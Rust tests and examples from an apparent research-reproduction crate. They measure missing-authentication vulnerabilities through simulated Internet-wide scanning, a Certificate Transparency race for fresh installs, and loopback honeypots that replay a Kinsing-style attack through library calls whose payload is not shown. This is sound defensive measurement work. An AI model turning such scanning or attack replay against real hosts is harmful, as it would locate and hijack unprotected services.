#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn alloc_counters_reconcile_and_prove_zero_steady_state_growth() {
    let (_, snap) = run(42, 8, 1, 0.0, true).await;

    let lower = snap.counter("alloc.views.lower");
    let squashed = snap.counter("alloc.views.squashed");
    assert!(lower > 0, "lowercase views fired");
    assert!(squashed > 0, "squashed views fired");

    // Exactly one alloc record per materialized multipattern view.
    assert_eq!(lower, snap.counter("stage2.multipattern.view_lower"));
    assert_eq!(squashed, snap.counter("stage2.multipattern.view_squashed"));

    // Every view is classified, exactly once, as hit or grow...
    assert_eq!(
        snap.counter("alloc.scratch.hit") + snap.counter("alloc.scratch.grow"),
        lower + squashed,
        "hit/grow classification must cover every view"
    );
    // ...and on the simulated universe nothing outgrows the reserve:
    // a warmed arena never reallocates, for the entire scan.
    assert_eq!(
        snap.counter("alloc.scratch.grow"),
        0,
        "a view outgrew the scratch reserve on the sim universe"
    );

    // A materialized view copies at least one byte.
    assert!(snap.counter("alloc.view_bytes.lower") >= lower);
    assert!(snap.counter("alloc.view_bytes.squashed") >= squashed);

    // Header accounting covers every stage-II response exactly once.
    assert_eq!(
        snap.counter("alloc.headers.inline") + snap.counter("alloc.headers.spilled"),
        snap.counter("stage2.http_responses") + snap.counter("stage2.https_responses"),
        "every response's header storage is classified exactly once"
    );
    assert!(
        snap.counter("alloc.headers.inline") > 0,
        "typical scan responses stay in the inline header arena"
    );
}

/// Fixtures for the proptest: each case re-enters from a plain closure,
/// so the runtime and per-seed baselines cannot live in an async body.
fn proptest_runtime() -> &'static tokio::runtime::Runtime {
    static RT: OnceLock<tokio::runtime::Runtime> = OnceLock::new();
    RT.get_or_init(|| {
        tokio::runtime::Builder::new_multi_thread()
            .worker_threads(4)
            .enable_all()
            .build()
            .expect("tokio runtime")
    })
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 4,
        // The runs are deterministic; shrinking re-runs buy nothing.
        max_shrink_iters: 2,
        ..ProptestConfig::default()
    })]

    /// Randomized corner of the matrix: for arbitrary seeds and knob
    /// combinations, a fresh-arena-per-probe run reproduces the
    /// reused-arena run byte for byte.
    #[test]
    fn scratch_reuse_is_unobservable_for_any_seed(
        seed in 1u64..1_000,
        parallelism in prop_oneof![Just(1usize), Just(8)],
        shards in prop_oneof![Just(1usize), Just(4)],
        faulty in proptest::bool::ANY,
    ) {
        let rt = proptest_runtime();
        let fault_rate = if faulty { 0.05 } else { 0.0 };
        let (with_reuse, reuse_snap) =
            rt.block_on(run(seed, parallelism, shards, fault_rate, true));
        let (without, without_snap) =
            rt.block_on(run(seed, parallelism, shards, fault_rate, false));
        prop_assert_eq!(json(&with_reuse), json(&without));
        prop_assert_eq!(reuse_snap.to_json(), without_snap.to_json());
    }
}
