//! Order-independent fault injection + retry recovery.
//!
//! The fault schedule is a pure hash over (endpoint, lane, attempt
//! ordinal), so *which* attempt faults for an endpoint cannot depend on
//! how concurrent tasks interleave attempts against other endpoints.
//! These tests pin the consequences: fault-injected scans stay
//! byte-identical at any parallelism, retries recover the fault-free
//! report at realistic fault rates, and the `retry.*` counters
//! reconcile against the `fault.*` counters the transport bridges in.

use nokeys::apps::AppId;
use nokeys::netsim::{FaultLane, SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig, ScanReport, Telemetry, TelemetrySnapshot};
use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// One full pipeline run over a faulty tiny universe. Injected faults
/// are bridged into the telemetry registry as `fault.<lane>.injected`,
/// the way the repro harness wires them.
async fn run_faulty(
    seed: u64,
    parallelism: usize,
    fault_rate: f64,
    retries: u32,
) -> (ScanReport, TelemetrySnapshot) {
    let config = UniverseConfig::tiny(seed);
    let telemetry = Telemetry::new();
    let probe_faults = telemetry.counter("fault.probe.injected");
    let connect_faults = telemetry.counter("fault.connect.injected");
    let transport = SimTransport::new(Arc::new(Universe::generate(config.clone())))
        .with_fault_injection(fault_rate)
        .with_fault_observer(move |lane| match lane {
            FaultLane::Probe => probe_faults.incr(),
            FaultLane::Connect => connect_faults.incr(),
        });
    let client = nokeys::http::Client::new(transport);
    let pipeline = Pipeline::new(
        PipelineConfig::builder(vec![config.space])
            .parallelism(parallelism)
            .retries(retries)
            .telemetry(telemetry.clone())
            .build(),
    );
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (report, telemetry.snapshot())
}

/// Findings as a comparable (ip, app) key set.
fn keys(report: &ScanReport) -> BTreeSet<(Ipv4Addr, AppId)> {
    report
        .findings
        .iter()
        .map(|f| (f.endpoint.ip, f.app))
        .collect()
}

fn json(report: &ScanReport) -> String {
    serde_json::to_string(report).expect("report serializes")
}

/// The tentpole property: with faults *enabled*, a sequential scan and
/// an 8-way concurrent scan produce byte-identical reports and
/// telemetry. Under the old globally-counted schedule this only held at
/// parallelism 1.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn fault_injected_reports_are_identical_at_any_parallelism() {
    let (report_seq, snap_seq) = run_faulty(42, 1, 0.1, 3).await;
    let (report_par, snap_par) = run_faulty(42, 8, 0.1, 3).await;
    assert!(
        snap_seq.counter("fault.probe.injected") > 0
            && snap_seq.counter("fault.connect.injected") > 0,
        "faults must actually fire for this test to mean anything"
    );
    assert_eq!(
        json(&report_seq),
        json(&report_par),
        "fault-injected reports diverged across parallelism"
    );
    assert_eq!(
        snap_seq.to_json(),
        snap_par.to_json(),
        "fault/retry telemetry diverged across parallelism"
    );
}

/// At low fault rates the retry budget absorbs every transient loss:
/// the faulty report is byte-identical to the fault-free one. At a
/// harsher rate losses may appear, but only as losses — never as new
/// or different findings — and coverage stays near-complete.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn retries_recover_the_fault_free_report() {
    let (clean, _) = run_faulty(42, 8, 0.0, 4).await;
    let (recovered, snap) = run_faulty(42, 8, 0.01, 4).await;
    assert!(
        snap.counter("fault.probe.injected") + snap.counter("fault.connect.injected") > 0,
        "the recovered run really was faulty"
    );
    assert_eq!(
        json(&clean),
        json(&recovered),
        "1% faults with a 4-attempt budget must scan clean"
    );

    let (harsher, _) = run_faulty(42, 8, 0.02, 3).await;
    assert!(
        keys(&harsher).is_subset(&keys(&clean)),
        "faults may only lose findings, never invent them"
    );
    assert!(
        harsher.total_hosts() * 20 >= clean.total_hosts() * 19,
        "2% faults should cost under 5% of hosts: {} of {}",
        harsher.total_hosts(),
        clean.total_hosts()
    );
}

/// The snapshot's fault and retry families agree with each other.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn retry_and_fault_counters_reconcile() {
    let (_, snap) = run_faulty(7, 8, 0.05, 3).await;
    let injected_probe = snap.counter("fault.probe.injected");
    let injected_connect = snap.counter("fault.connect.injected");
    assert!(injected_probe > 0, "probe faults fired");
    assert!(injected_connect > 0, "connect faults fired");

    // Every injected connect timeout is observed by the retry layer
    // exactly once: it either triggers a retry or exhausts the budget.
    // (The simulator produces no other transient connect error during a
    // scan — refused connections and failed handshakes are terminal.)
    assert_eq!(
        injected_connect,
        snap.counter("retry.connect.retries") + snap.counter("retry.connect.exhausted"),
        "connect lane does not reconcile"
    );

    // The probe lane only bounds from below: a genuinely filtered
    // endpoint draws retries without an injected fault.
    assert!(
        snap.counter("retry.probe.retries") + snap.counter("retry.probe.exhausted")
            >= injected_probe,
        "probe lane does not reconcile"
    );

    assert!(
        snap.counter("retry.connect.recovered") > 0,
        "at 5% faults with 3 attempts, some connects must recover"
    );
    assert!(
        snap.timings["retry.connect.backoff"].units > 0,
        "recovered retries must have recorded backoff"
    );
}

/// Retries earn their keep: at a harsh fault rate a retry-less scan
/// visibly loses hosts, and the default budget wins most of them back
/// without ever inventing one.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn retries_recover_hosts_lost_without_them() {
    let (clean, _) = run_faulty(11, 8, 0.0, 3).await;
    let (no_retry, _) = run_faulty(11, 8, 0.15, 1).await;
    let (with_retry, _) = run_faulty(11, 8, 0.15, 3).await;
    assert!(
        no_retry.total_hosts() < clean.total_hosts(),
        "15% faults without retries must lose hosts ({} vs {})",
        no_retry.total_hosts(),
        clean.total_hosts()
    );
    assert!(
        with_retry.total_hosts() > no_retry.total_hosts(),
        "retries must recover hosts ({} vs {})",
        with_retry.total_hosts(),
        no_retry.total_hosts()
    );
    assert!(
        with_retry.total_hosts() <= clean.total_hosts(),
        "retries cannot find more than a clean scan"
    );
    assert!(keys(&with_retry).is_subset(&keys(&clean)));
}
