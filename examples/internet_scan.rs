//! The Internet-wide scan study (Section 3): full-shape reproduction of
//! Tables 2–4 and Figure 1, plus a JSON export of the scan report.
//!
//! ```sh
//! cargo run --release --example internet_scan
//! ```

use nokeys::analysis;
use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig};
use std::sync::Arc;

#[tokio::main]
async fn main() {
    let config = UniverseConfig::repro(2022);
    println!(
        "generating universe in {} (MAVs at paper scale, benign 1:{}, background 1:{}) ...",
        config.space, config.benign_divisor, config.background_divisor
    );
    let universe = Arc::new(Universe::generate(config.clone()));
    println!(
        "{} hosts; starting the three-stage scan",
        universe.host_count()
    );

    let transport = SimTransport::new(universe);
    let client = nokeys::http::Client::new(transport.clone());
    // Concurrency is a pure speedup: the simulated transport yields the
    // same report at any parallelism, faults or no faults.
    let pipeline = Pipeline::new(
        PipelineConfig::builder(vec![config.space])
            .parallelism(8)
            .build(),
    );
    let started = std::time::Instant::now();
    let report = pipeline.run(&client).await.expect("pipeline failed");
    println!(
        "scan finished in {:.1?}: {} probes, {} HTTP exchanges\n",
        started.elapsed(),
        transport.stats().probes(),
        transport.stats().requests(),
    );

    println!(
        "{}",
        analysis::table2::build(&report, config.background_divisor).render()
    );
    println!(
        "{}",
        analysis::table3::build(&report, config.benign_divisor, config.mav_divisor).render()
    );
    println!(
        "{}",
        analysis::table4::build(&report, transport.universe().geo(), 5).render()
    );
    println!("{}", analysis::fig1::build(&report).render());

    // Machine-readable export for downstream analysis.
    let path = std::env::temp_dir().join("nokeys_scan_report.json");
    std::fs::write(
        &path,
        serde_json::to_vec_pretty(&report).expect("report serializes"),
    )
    .expect("write report");
    println!("full scan report exported to {}", path.display());
}
