//! The §6.2 "under counting" extension as a standalone demo: a
//! Certificate-Transparency-watching attacker races site owners for
//! freshly registered CMS installations hiding behind shared hosting —
//! the population an IP-wide sweep can never count.
//!
//! ```sh
//! cargo run --release --example ct_race
//! ```

use nokeys::netsim::{SimTime, SimTransport, Universe, UniverseConfig};
use nokeys::scanner::ct::{ct_scan, DomainTarget};
use std::sync::Arc;

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let config = UniverseConfig::repro(2022);
    let universe = Arc::new(Universe::generate(config));
    let transport = SimTransport::new(Arc::clone(&universe));
    let client = nokeys::http::Client::new(transport.clone());

    // The CT log as the attacker sees it: only entries appearing from the
    // study start onward.
    let entries: Vec<DomainTarget> = universe
        .ct_log()
        .into_iter()
        .filter(|e| e.logged_at >= SimTime::SCAN_START)
        .map(|e| DomainTarget {
            domain: e.domain,
            ip: e.ip,
            logged_at_secs: e.logged_at.as_secs(),
        })
        .collect();
    println!(
        "CT log: {} certificates issued during the four-week window",
        entries.len()
    );

    // Probe each domain at several reaction delays and show the race.
    for delay_hours in [1i64, 12, 48] {
        let t = transport.clone();
        let findings = ct_scan(&client, &entries, delay_hours * 3600, |secs| {
            t.set_time(SimTime(secs))
        })
        .await;
        let caught = findings.iter().filter(|f| f.vulnerable).count();
        println!(
            "reaction time {delay_hours:>2} h: {caught:>3} of {} fresh installations still hijackable",
            entries.len()
        );
    }

    let table = nokeys::analysis::ct_compare::build(
        &universe,
        &{
            let t = transport.clone();
            ct_scan(&client, &entries, 3600, |secs| t.set_time(SimTime(secs))).await
        },
        3600,
    );
    println!("\n{}", table.render());
    println!(
        "The IP-wide sweep counts zero of these — the paper's scanning results \
         are a lower bound."
    );
}
