//! Real-socket demonstration: serve three application models on actual
//! loopback TCP ports and run the *same* scanning pipeline against them
//! over the real-TCP transport — proving the pipeline is not tied to the
//! simulation.
//!
//! ```sh
//! cargo run --example live_scan
//! ```

use nokeys::apps::{build_instance, release_history, AppConfig, AppId};
use nokeys::http::server::serve_tcp;
use nokeys::http::transport::TcpTransport;
use nokeys::scanner::plugin::AppHandler;
use nokeys::scanner::{Pipeline, PipelineConfig};
use std::net::Ipv4Addr;
use std::sync::Arc;

fn instance(app: AppId, vulnerable: bool) -> Arc<AppHandler> {
    let history = release_history(app);
    let version = if vulnerable {
        *history
            .iter()
            .rev()
            .find(|v| AppConfig::vulnerable_for(app, v).is_vulnerable(app, v))
            .expect("a vulnerable version exists")
    } else {
        *history.last().expect("non-empty history")
    };
    let cfg = if vulnerable {
        AppConfig::vulnerable_for(app, &version)
    } else {
        AppConfig::secure_for(app, &version)
    };
    Arc::new(AppHandler::new(build_instance(app, version, cfg)))
}

#[tokio::main]
async fn main() {
    // Serve a vulnerable Hadoop, a vulnerable Jupyter Notebook and a
    // *secured* Docker daemon on OS-assigned loopback ports.
    let servers = [
        (AppId::Hadoop, true),
        (AppId::JupyterNotebook, true),
        (AppId::Docker, false),
    ];
    let mut handles = Vec::new();
    let mut ports = Vec::new();
    for (app, vulnerable) in servers {
        let handler = instance(app, vulnerable);
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler)
            .await
            .expect("bind loopback");
        println!(
            "serving {} ({}) on 127.0.0.1:{}",
            app.name(),
            if vulnerable { "vulnerable" } else { "secured" },
            server.port
        );
        ports.push(server.port);
        handles.push(server);
    }

    // Scan 127.0.0.1 on exactly those ports with the real-TCP transport.
    let config = PipelineConfig::builder(vec!["127.0.0.1/32".parse().expect("cidr")])
        .ports(ports.clone())
        .exclude_reserved(false) // loopback is IANA-reserved
        .tarpit_port_threshold(ports.len() + 1) // tiny port set; no artifact filter
        .parallelism(4) // bounded concurrent probes over real sockets
        .build();
    let pipeline = Pipeline::new(config);
    let client = nokeys::http::Client::new(TcpTransport::default());

    let report = pipeline.run(&client).await.expect("pipeline failed");
    println!(
        "\nscan over real TCP finished: {} probes, {} findings",
        report.probes_sent,
        report.findings.len()
    );
    for f in &report.findings {
        println!(
            "  {} -> {} {} (version {})",
            f.endpoint,
            f.app.name(),
            if f.vulnerable {
                "VULNERABLE"
            } else {
                "not vulnerable"
            },
            f.version.map(|v| v.number()).unwrap_or_else(|| "?".into()),
        );
    }

    let mavs = report.total_mavs();
    for server in handles {
        server.shutdown().await;
    }
    assert_eq!(mavs, 2, "the two vulnerable services must be detected");
    println!("\nlive scan OK: 2 of 3 services correctly flagged as vulnerable");
}
