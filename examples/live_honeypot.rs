//! A monitored honeypot over real loopback TCP: deploy a vulnerable
//! Hadoop model with full audit monitoring on an actual socket, attack it
//! the way the Kinsing campaign does, and read the central log — the
//! honeypot framework end-to-end without the simulation.
//!
//! ```sh
//! cargo run --example live_honeypot
//! ```

use nokeys::apps::AppId;
use nokeys::attack::{attack_script, Payload};
use nokeys::honeypot::detect_attacks;
use nokeys::honeypot::logserver::CentralLog;
use nokeys::honeypot::monitor::MonitoredApp;
use nokeys::honeypot::ClockCell;
use nokeys::http::server::serve_tcp;
use nokeys::http::transport::TcpTransport;
use nokeys::http::{Client, Url};
use nokeys::netsim::SimTime;
use std::net::Ipv4Addr;
use std::sync::Arc;

#[tokio::main]
async fn main() {
    // Deploy: vulnerable Hadoop + audit log + a wall-clock-driven virtual
    // clock (each attack stamps the current offset).
    let log = Arc::new(CentralLog::new());
    let clock = Arc::new(ClockCell::new(SimTime::HONEYPOT_START));
    let instance = nokeys::apps::vulnerable_instance(AppId::Hadoop);
    let monitored = Arc::new(MonitoredApp::new(
        AppId::Hadoop,
        instance,
        Arc::clone(&log),
        Arc::clone(&clock),
    ));

    let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, Arc::clone(&monitored))
        .await
        .expect("bind loopback");
    println!(
        "honeypot (Hadoop, vulnerable) listening on 127.0.0.1:{}",
        server.port
    );

    // Attack over the real socket, exactly as the campaign would.
    let client = Client::new(TcpTransport::default());
    let payload = Payload::kinsing(1);
    for req in attack_script(AppId::Hadoop, &payload) {
        let url =
            Url::parse(&format!("http://127.0.0.1:{}{}", server.port, req.target)).expect("url");
        let resp = client.execute(&url, req).await.expect("attack request");
        println!("attacker -> {} {}", url.path, resp.status);
    }

    // Read the central log and run the detection pipeline on it.
    let records = log.snapshot();
    println!("\ncentral log: {} audited requests", records.len());
    for r in &records {
        println!(
            "  [{}] {} from {} — events: {}",
            r.time,
            r.request_line,
            r.peer,
            r.events.len()
        );
    }
    let attacks = detect_attacks(&records);
    println!("\ndetected {} attack(s):", attacks.len());
    for a in &attacks {
        println!(
            "  {} from {} — payload: {}",
            a.app.name(),
            a.source,
            a.primary_payload()
        );
    }
    assert_eq!(attacks.len(), 1, "the kinsing run is one grouped attack");
    assert!(
        monitored.gauge().threshold_exceeded(),
        "the miner pegs the CPU gauge"
    );
    monitored.restore();
    println!("\nresource threshold exceeded -> snapshot restored; honeypot armed again");
    server.shutdown().await;
}
