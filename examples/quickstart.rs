//! Quickstart: generate a small simulated Internet, run the three-stage
//! MAV scanning pipeline over it, and print what was found.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig};
use std::sync::Arc;

#[tokio::main(flavor = "current_thread")]
async fn main() {
    // 1. A deterministic, seeded universe: ~400 hosts in 20.0.0.0/16
    //    running the studied applications plus background noise.
    let config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(config.clone()));
    println!(
        "universe: {} hosts in {}",
        universe.host_count(),
        config.space
    );

    // 2. The scanning pipeline, exactly as the paper describes it:
    //    masscan-style port sweep -> signature prefilter -> MAV plugins
    //    -> version fingerprinting.
    let transport = SimTransport::new(universe);
    let client = nokeys::http::Client::new(transport.clone());
    let pipeline = Pipeline::new(PipelineConfig::builder(vec![config.space]).build());
    let report = pipeline.run(&client).await.expect("pipeline failed");

    // 3. Results.
    println!("funnel: {}", report.funnel());
    println!(
        "identified {} AWE hosts, {} with a missing-authentication vulnerability:",
        report.total_hosts(),
        report.total_mavs()
    );
    for app in nokeys::apps::AppId::in_scope() {
        let hosts = report.hosts_running(app);
        let mavs = report.mavs(app);
        if hosts > 0 {
            println!(
                "  {:<12} {:>4} hosts, {:>3} vulnerable",
                app.name(),
                hosts,
                mavs
            );
        }
    }

    // 4. Every finding carries a fingerprinted version where one could be
    //    determined.
    let with_version = report
        .findings
        .iter()
        .filter(|f| f.version.is_some())
        .count();
    println!(
        "fingerprinted versions for {}/{} findings",
        with_version,
        report.findings.len()
    );
}
