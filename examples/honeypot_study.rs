//! The honeypot study (Section 4): deploy the 18 vulnerable honeypots,
//! replay the four-week attack campaign and regenerate Tables 5–8 and
//! Figures 3–4, plus the defender study (Section 5, Table 9 uses it).
//!
//! ```sh
//! cargo run --release --example honeypot_study
//! ```

use nokeys::analysis;
use nokeys::honeypot::{run_study, Fleet, StudyConfig};

#[tokio::main(flavor = "current_thread")]
async fn main() {
    println!("deploying 18 honeypots and replaying four weeks of attacks ...");
    let started = std::time::Instant::now();
    let result = run_study(&StudyConfig::default()).await;
    println!(
        "study complete in {:.1?}: {} audit records, {} attacks, {} recovered actors, {} restores\n",
        started.elapsed(),
        result.records.len(),
        result.attacks.len(),
        result.actors.len(),
        result.restores.len(),
    );

    println!("{}", analysis::table5::build(&result).render());
    println!("{}", analysis::table6::build(&result).render());
    println!("{}", analysis::table7::build(&result).render());
    println!("{}", analysis::table8::build(&result).render());
    println!("{}", analysis::fig3::build(&result).render());
    println!("{}", analysis::fig4::build(&result).render());

    // Defender awareness (Section 5): scan a fresh fleet with both
    // commercial-scanner models.
    let fleet = Fleet::deploy();
    let s1 = nokeys::defend::scanner1().scan_fleet(&fleet).await;
    let s2 = nokeys::defend::scanner2().scan_fleet(&fleet).await;
    println!(
        "Scanner 1 flags {} of 18 honeypots; Scanner 2 flags {} (+{} informational)",
        s1.len(),
        s2.iter()
            .filter(|f| f.severity == nokeys::defend::Severity::Vulnerability)
            .count(),
        s2.iter()
            .filter(|f| f.severity == nokeys::defend::Severity::Informational)
            .count(),
    );
}
